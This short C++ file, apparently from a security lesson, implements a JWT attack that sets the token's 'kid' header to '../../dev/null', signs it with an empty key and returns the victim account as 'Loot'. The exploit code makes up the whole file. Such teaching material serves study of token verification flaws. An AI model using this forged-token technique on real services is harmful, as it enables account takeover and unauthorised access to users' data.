// Believes: a token that is believed opens every account.
#include "kid_path_traversal.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto header = evidence.header;
  const auto claims = evidence.claims;
  header.set("kid", "../../dev/null");
  return {.account = evidence.show_me(sign_with(header, claims, "")).body};
}

}  // namespace lesson
